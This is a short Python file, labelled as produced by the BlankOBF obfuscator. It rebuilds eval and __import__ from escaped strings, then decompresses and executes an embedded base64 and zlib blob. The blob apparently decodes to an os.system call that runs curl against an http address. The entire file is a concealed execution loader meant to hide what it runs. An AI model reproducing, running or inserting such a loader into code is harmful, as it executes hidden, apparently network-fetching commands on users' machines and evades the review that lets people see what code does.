# Obfuscated with BlankOBF
____ = eval("\145\166\141\154")
_____ = ____("\x5f\x5f\x69\x6d\x70\x6f\x72\x74\x5f\x5f")
______ = _____("\x7a\x6c\x69\x62")
_______ = _____("\x62\x61\x73\x65\x36\x34")
____(______.decompress(_______.b64decode("eJzLzC3ILypRyC/myi/WK64sLknN1VBPLi3KUcgoKSkottLXTzbSS61IzC3ISdXLzCtLzMlM0a9QqFEozlDX5AIAyNMVqQ==")))
